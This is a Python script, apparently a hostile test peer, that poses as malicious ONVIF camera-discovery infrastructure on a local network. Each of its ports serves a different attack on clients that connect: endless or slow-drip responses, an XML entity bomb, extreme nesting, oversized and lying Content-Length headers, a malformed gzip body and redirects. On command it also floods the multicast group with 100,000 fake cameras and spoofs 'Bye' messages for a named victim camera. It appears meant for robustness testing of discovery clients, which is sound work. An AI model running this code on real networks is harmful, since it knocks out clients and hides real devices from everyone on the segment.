"""A host that means harm to whoever looks for cameras.

It answers each probe for a camera at each of its ports, which all answer questions in another harmful way: `ports` names them.
After `flood` it answers probes with a hundred thousand cameras that do not exist instead, and sends as many greetings and
farewells to all, until `calm`.
"""

import argparse
import itertools
import re
import socket
import struct
import threading
import time

import peer

GROUP, PORT = "239.255.255.250", 3702
FLOOD = 100_000
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n"
BEGIN = b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>'


def whole(body, more=b""):
    return HEAD + more + b"Content-Length: %d\r\n\r\n" % len(body) + body


def endless(begin, more, pause=0.0):
    """What begins so and goes on like that."""
    yield begin
    while True:
        yield more
        time.sleep(pause)


def ways(elsewhere):
    attributes = b"".join(b" a%d=''" % n for n in range(10_000))
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    chunk = b"2000\r\n" + b"<a>x</a>" * 1024 + b"\r\n"
    return {
        "endless": lambda: endless(HEAD + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n" % (len(BEGIN), BEGIN), chunk),
        "headless": lambda: endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 1000),
        "interim": lambda: endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 100),
        "drip": lambda: endless(HEAD + b"Content-Length: 9999\r\n\r\n", b"<", 1.0),
        "headers": lambda: [HEAD + b"".join(b"X-%d: y\r\n" % n for n in range(300)) + b"Content-Length: 0\r\n\r\n"],
        "large": lambda: [whole(BEGIN + b"x" * 5_000_000)],
        "deep": lambda: [whole(BEGIN + b"<a>" * 80_000)],
        "deeper": lambda: [whole(BEGIN + b"<a>" * 100_000 + b"</a>" * 100_000)],
        "attributes": lambda: [whole(BEGIN + b"<a%s/></s:Body></s:Envelope>" % attributes)],
        "laughs": lambda: [whole(laughs + b"]><l>&j;</l>")],
        "truncated": lambda: [whole(BEGIN)],
        "more": lambda: [HEAD + b"Content-Length: 99999\r\n\r\n" + BEGIN],
        "huge": lambda: [HEAD + b"Content-Length: 18446744073709551615\r\n\r\n" + BEGIN],
        "gzip": lambda: [whole(b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + b"\0" * 99, b"Content-Encoding: gzip\r\n")],
        "redirect": lambda: [b"HTTP/1.1 307 No\r\nLocation: http://%s/\r\nContent-Length: 0\r\n\r\n" % elsewhere.encode()],
        "refusing": lambda: [
            b'HTTP/1.1 401 No\r\nWWW-Authenticate: Digest realm="r", nonce="%d"\r\nContent-Length: 0\r\n\r\n'
            % time.monotonic_ns()
        ],
        "silent": lambda: endless(b"", b"", 1.0),
    }


def serve(listener, way):
    def answer(client):
        try:
            client.recv(65536)
            for piece in way():
                client.sendall(piece)
        except OSError:
            pass
        client.close()

    while True:
        client, _ = listener.accept()
        threading.Thread(target=answer, args=(client,), daemon=True).start()


def message(action, inside, header=""):
    return (
        '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
        'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
        'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" '
        'xmlns:dn="http://www.onvif.org/ver10/network/wsdl"><s:Header>'
        f"<a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/{action}</a:Action>{header}</s:Header>"
        f"<s:Body>{inside}</s:Body></s:Envelope>"
    ).encode()


def about(uuid, url):
    return (
        f"<a:EndpointReference><a:Address>urn:uuid:{uuid}</a:Address></a:EndpointReference>"
        f"<d:Types>dn:NetworkVideoTransmitter</d:Types><d:XAddrs>{url}</d:XAddrs>"
    )


def match(uuid, url, header=""):
    inside = f"<d:ProbeMatches><d:ProbeMatch>{about(uuid, url)}</d:ProbeMatch></d:ProbeMatches>"
    return message("ProbeMatches", inside, header)


def main():
    options = argparse.ArgumentParser()
    options.add_argument("--address", required=True)
    options.add_argument("--elsewhere", required=True, help="where the redirect leads")
    options.add_argument("--victim", help="the camera that is said to go")
    options = options.parse_args()

    ports = {}
    for name, way in ways(options.elsewhere).items():
        listener = socket.create_server((options.address, 0), backlog=64)
        ports[name] = listener.getsockname()[1]
        threading.Thread(target=serve, args=(listener, way), daemon=True).start()

    group = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    group.bind((GROUP, PORT))
    member = struct.pack("4s4s", socket.inet_aton(GROUP), socket.inet_aton(options.address))
    group.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    replies = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    replies.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(options.address))
    floods = threading.Event()
    count = itertools.count()

    def made_up():
        number = next(count)
        return f"{number:08x}-0000-4000-8000-{number:012x}", f"http://{options.address}:{1 + number % 1000}/"

    def answer_probes():
        while True:
            probe, asker = group.recvfrom(65536)
            names = re.search(rb"MessageID>([^<]*)<", probe)
            if b"discovery/Probe<" not in probe or not names:
                continue
            if floods.is_set():
                for _ in range(FLOOD):
                    replies.sendto(match(*made_up()), asker)
                continue
            header = f"<a:RelatesTo>{names.group(1).decode()}</a:RelatesTo>"
            for number, port in enumerate(ports.values()):
                uuid = f"0badcafe-0000-4000-8000-{number:012x}"
                url = f"http://{options.address}:{port}/onvif/device_service"
                replies.sendto(match(uuid, url, header), asker)

    def speak_to_all():
        while True:
            floods.wait()
            for _ in range(1_000):
                inside = f"<d:Hello>{about(*made_up())}</d:Hello>"
                replies.sendto(message("Hello", inside), (GROUP, PORT))
                inside = f"<d:Bye>{about(options.victim, '')}</d:Bye>"
                replies.sendto(message("Bye", inside), (GROUP, PORT))
            # A host could do nothing else otherwise, and neither could this one.
            time.sleep(0.1)

    for work in answer_probes, speak_to_all:
        threading.Thread(target=work, daemon=True).start()

    def say_ports():
        peer.say(" ".join(f"{name}={port}" for name, port in ports.items()))

    peer.obey(ports=say_ports, flood=floods.set, calm=floods.clear)


main()
